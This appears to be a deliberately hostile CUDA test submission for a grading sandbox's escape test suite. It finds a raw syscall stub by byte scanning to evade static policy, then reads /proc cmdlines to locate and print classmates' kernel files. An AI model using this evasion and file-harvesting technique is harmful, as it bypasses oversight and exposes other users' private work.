// cudagrade-expect: wrong_answer
// Threat: reading classmates' kernels and printing them into its own report. In a class run the grader's
// command line names the output folder, whose .work/ holds every student's file. Past every static policy:
// open, read and getdents64 are reached through glibc's generic system-call stub, found by its bytes (see
// kills_grader.cu). Only the sandbox stops it: no ancestor is visible in its PID namespace, and no home,
// work or output folder is in its filesystem view. tests/escape_corpus.sh puts it in a class among honest
// students and checks its report quotes none of them. The file computes nothing.
#include "matmul.cuh"
#include <cstdint>
#include <cstdio>

namespace {

using RawCall = long (*)(long, long, long, long, long, long, long);

RawCall find_stub() {
    static const unsigned char kStub[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca,
                                          0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8, 0x4c, 0x8b, 0x4c, 0x24, 0x08, 0x0f, 0x05};
    const unsigned char* page =
        reinterpret_cast<const unsigned char*>(reinterpret_cast<uintptr_t>(stdout) & ~uintptr_t{4095});
    while (!(page[0] == 0x7f && page[1] == 'E' && page[2] == 'L' && page[3] == 'F')) page -= 4096;
    for (const unsigned char* at = page;; ++at) {
        size_t i = 0;
        while (i < sizeof kStub && at[i] == kStub[i]) ++i;
        if (i == sizeof kStub) return reinterpret_cast<RawCall>(const_cast<unsigned char*>(at));
    }
}

// Up to size - 1 bytes of the file at `path`; -1 when it cannot be opened.
long read_whole(RawCall call, const char* path, char* buffer, long size) {
    const long fd = call(257, -100, reinterpret_cast<long>(path), 0, 0, 0, 0);  // openat
    if (fd < 0) return -1;
    long total = 0;
    for (long got; total < size - 1 && (got = call(0, fd, reinterpret_cast<long>(buffer + total), size - 1 - total,
                                                   0, 0, 0)) > 0;) total += got;
    call(3, fd, 0, 0, 0, 0, 0);
    buffer[total] = '\0';
    return total;
}

void leak(RawCall call, const char* path) {
    static char contents[1 << 16];
    const long length = read_whole(call, path, contents, sizeof contents);
    if (length > 0) std::printf("LEAKED %s:\n%s\n", path, contents);
}

// Prints every <folder>/<entry>/matmul.cu.
void leak_every_file_in(RawCall call, const char* folder) {
    const long dir = call(257, -100, reinterpret_cast<long>(folder), 0x10000, 0, 0, 0);
    if (dir < 0) return;
    static char entries[1 << 16];
    const long listed = call(217, dir, reinterpret_cast<long>(entries), sizeof entries, 0, 0, 0);
    char path[4096];
    for (long offset = 0; offset < listed;) {
        const char* name = entries + offset + 19;
        offset += static_cast<unsigned char>(entries[offset + 16]) | (static_cast<unsigned char>(entries[offset + 17]) << 8);
        if (name[0] == '.') continue;
        std::snprintf(path, sizeof path, "%s/%s/matmul.cu", folder, name);
        leak(call, path);
    }
    call(3, dir, 0, 0, 0, 0, 0);
}

}  // namespace

// A launch, as the symbol policy asks; it writes nothing.
__global__ void touch(float* C) { (void)C; }

void matmul(const float*, const float*, float* C, int, int, int) {
    touch<<<1, 1>>>(C);
    const RawCall call = find_stub();
    char path[4096];
    static char arguments[1 << 14];
    const long proc = call(257, -100, reinterpret_cast<long>("/proc"), 0x10000, 0, 0, 0);  // O_DIRECTORY
    static char entries[1 << 16];
    long listed = proc < 0 ? 0 : call(217, proc, reinterpret_cast<long>(entries), sizeof entries, 0, 0, 0);
    for (long offset = 0; offset < listed;) {
        const char* name = entries + offset + 19;
        offset += static_cast<unsigned char>(entries[offset + 16]) | (static_cast<unsigned char>(entries[offset + 17]) << 8);
        if (name[0] < '0' || name[0] > '9') continue;
        std::snprintf(path, sizeof path, "/proc/%s/cmdline", name);
        const long length = read_whole(call, path, arguments, sizeof arguments);
        // "... --out DIR ...": DIR/.work/<student>/matmul.cu is every classmate's file.
        bool next_is_out = false;
        for (long at = 0; at < length; ++at) {
            const char* argument = arguments + at;
            long size = 0;
            while (at + size < length && argument[size] != '\0') ++size;
            if (next_is_out) {
                if (argument[0] == '/') std::snprintf(path, sizeof path, "%s/.work", argument);
                else std::snprintf(path, sizeof path, "/proc/%s/cwd/%s/.work", name, argument);
                leak_every_file_in(call, path);
            }
            next_is_out = size == 5 && argument[0] == '-' && argument[2] == 'o' && argument[4] == 't';
            at += size;
        }
    }
    if (proc >= 0) call(3, proc, 0, 0, 0, 0, 0);
}
